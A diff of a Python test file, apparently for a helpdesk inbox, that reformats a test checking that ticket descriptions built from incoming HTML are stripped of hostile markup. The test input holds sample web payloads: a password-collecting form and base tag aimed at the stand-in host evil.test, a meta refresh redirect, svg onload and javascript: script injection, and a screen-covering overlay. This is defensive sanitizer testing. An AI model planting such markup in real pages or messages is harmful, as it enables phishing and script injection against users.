@@ -142,11 +142,13 @@ class TestInboxAttack(InboxCase):
 
     def test_scripts_in_a_description_are_gone_with_what_hides_the_screen(self):
         """Forms, bases and layers over the whole screen have no place in a ticket."""
-        ticket = self.ticket_of(self.arrive(
-            html='<base href="http://evil.test/"><form action="http://evil.test"><input name="password"></form>'
-            '<meta http-equiv="refresh" content="0;http://evil.test"><svg onload="alert(1)"></svg>'
-            '<a href="javascript:alert(1)">y</a><div style="position:fixed;top:0">Hello</div>'
-        ))
+        ticket = self.ticket_of(
+            self.arrive(
+                html='<base href="http://evil.test/"><form action="http://evil.test"><input name="password"></form>'
+                '<meta http-equiv="refresh" content="0;http://evil.test"><svg onload="alert(1)"></svg>'
+                '<a href="javascript:alert(1)">y</a><div style="position:fixed;top:0">Hello</div>'
+            )
+        )
         self.assertIn("Hello", ticket.description)
         for word in ("<form", "<base", "<meta", "<svg onload", "onload", "javascript", "fixed"):
             with self.subTest(word):
